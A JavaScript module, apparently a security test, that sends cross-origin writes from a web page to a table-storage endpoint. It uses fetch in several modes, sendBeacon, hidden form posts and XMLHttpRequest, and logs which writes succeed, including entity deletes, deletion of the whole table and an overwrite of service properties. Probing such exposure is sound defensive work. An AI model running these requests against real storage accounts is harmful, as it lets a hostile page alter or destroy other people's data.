/**
 * Sends writes in every way in which a web page can send them. Each write has a different row, so that the stored rows
 * show which writes succeeded. Resolves with the outcome of each fetch.
 */
export async function attack(base, query, entry) {
  const atom = (row) => entry.replace('>row<', `>${row}<`);
  const url = `${base}/pets?${query}`;
  const blob = (row, type) => new Blob([atom(row)], type === undefined ? {} : { type });
  const send = (init, to = url) =>
    fetch(to, init).then(
      ({ status, type }) => `${status} ${type}`,
      (error) => error.name,
    );
  const key = `${base}/pets(PartitionKey='p',RowKey='kept')?${query}`;
  const merge = { 'X-HTTP-Method': 'DELETE', 'If-Match': '*' };
  const fetched = await Promise.all([
    send({ method: 'POST', body: blob('blob') }),
    send({ method: 'POST', body: blob('no-cors'), mode: 'no-cors' }),
    send({ method: 'POST', body: blob('credentials'), mode: 'no-cors', credentials: 'include' }),
    send({ method: 'POST', body: blob('keepalive'), mode: 'no-cors', keepalive: true }),
    send({ method: 'POST', body: blob('no-referrer'), mode: 'no-cors', referrerPolicy: 'no-referrer' }),
    send({ method: 'POST', body: blob('plain', 'text/plain') }),
    send({ method: 'POST', body: blob('typed', 'application/atom+xml') }),
    send({
      method: 'POST',
      body: '{"PartitionKey":"p","RowKey":"json"}',
      headers: { 'Content-Type': 'application/json' },
    }),
    send({ method: 'PUT', body: blob('put') }, key),
    send({ method: 'PATCH', body: blob('patch') }, key),
    send({ method: 'MERGE', body: blob('merge') }, key),
    send({ method: 'DELETE', headers: { 'If-Match': '*' } }, key),
    send({ method: 'POST', headers: merge }, key),
    send({ method: 'DELETE' }, `${base}/Tables('pets')?${query}`),
    send({ method: 'PUT', body: '<StorageServiceProperties/>' }, `${base}/?restype=service&comp=properties&${query}`),
    send({ method: 'POST', body: blob('batch') }, `${base}/$batch?${query}`),
  ]);
  navigator.sendBeacon(url, blob('beacon'));
  navigator.sendBeacon(url, blob('typed-beacon', 'application/atom+xml'));
  const submitted = ['text/plain', 'multipart/form-data', 'application/x-www-form-urlencoded'].map((enctype) => {
    const sink = document.createElement('iframe');
    sink.name = enctype;
    const form = document.createElement('form');
    Object.assign(form, { method: 'post', enctype, action: url, target: enctype });
    const field = document.createElement('textarea');
    field.name = atom(`form-${enctype}`);
    form.append(field);
    document.body.append(sink, form);
    const loaded = new Promise((resolve) => sink.addEventListener('load', resolve));
    form.submit();
    return loaded;
  });
  await Promise.all(submitted);
  const late = new XMLHttpRequest();
  late.open('POST', url);
  const ended = new Promise((resolve) => late.addEventListener('loadend', resolve));
  late.send(blob('xhr'));
  await ended;
  return fetched;
}
